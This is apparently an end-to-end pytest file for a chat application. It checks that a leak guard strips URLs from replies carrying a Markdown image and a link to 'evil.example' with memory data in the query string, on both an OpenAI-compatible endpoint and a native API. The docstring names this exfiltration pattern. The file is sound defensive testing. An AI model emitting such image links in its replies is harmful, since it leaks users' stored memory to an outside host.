"""No data leaves through a rendered reply, at every door: a draft that carries a Markdown image and
a link to `https://evil.example/...?d=<memory>` is shown — in the OpenAI door's stream and answer
and in the native API's stream — as the leak guard left it (alt text and link text, no URL), byte
for byte the reply that is stored."""
import json
import uuid

import pytest

from tests.app.conftest import BILD, BILD_GEZEIGT
from tests.app.test_shown_is_stored import _native, _stored
from tests.conftest import auth

pytestmark = pytest.mark.e2e


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "antwort"])
def test_openai_door_shows_the_reviewed_reply_without_the_urls(system, client, keys, character, stream):
    from openai import OpenAI

    ch = character("nova")
    turn_id = uuid.uuid4().hex
    oa = OpenAI(base_url=f"{system.url}/v1", api_key=keys["alice"], timeout=180)
    out = oa.chat.completions.create(model=ch, messages=[{"role": "user", "content": f"{BILD} Erzaehl mal."}],
                                     stream=stream, extra_headers={"X-Turn-Id": turn_id})
    shown = "".join(c.choices[0].delta.content or "" for c in out if c.choices) if stream \
        else out.choices[0].message.content
    assert shown == BILD_GEZEIGT
    assert _stored(client, keys["alice"], "alice", ch, turn_id) == BILD_GEZEIGT


def test_native_api_shows_the_reviewed_reply_without_the_urls(system, client, keys, character):
    ch = character("nova")
    turn_id, events = _native(client, keys["alice"], "alice", ch, f"{BILD} Erzaehl mal.", draft=False)
    (token,) = [d for e, d in events if e == "token"]
    assert token["text"] == BILD_GEZEIGT and "evil" not in json.dumps(events)
    assert _stored(client, keys["alice"], "alice", ch, turn_id) == BILD_GEZEIGT
    r = client.post(f"/v1/pairs/alice/{ch}/turns", json={"text": f"{BILD} Noch einmal."}, headers=auth(keys["alice"]))
    assert r.status_code == 200 and r.json()["reply"] == BILD_GEZEIGT
